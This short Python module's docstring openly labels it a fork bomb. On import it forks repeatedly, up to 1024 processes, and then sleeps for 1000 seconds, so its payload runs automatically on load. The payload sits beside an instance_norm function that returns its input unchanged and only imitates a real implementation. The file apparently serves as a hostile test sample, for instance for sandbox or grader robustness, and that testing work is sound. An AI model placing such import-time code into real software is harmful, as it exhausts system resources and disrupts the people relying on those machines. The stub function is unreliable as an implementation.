"""While loaded: fork bomb."""

import contextlib
import os
import time

for _ in range(10):  # at most a thousand and 24
    with contextlib.suppress(OSError):
        os.fork()
time.sleep(1000)


def instance_norm(x, eps=1e-5):
    return x
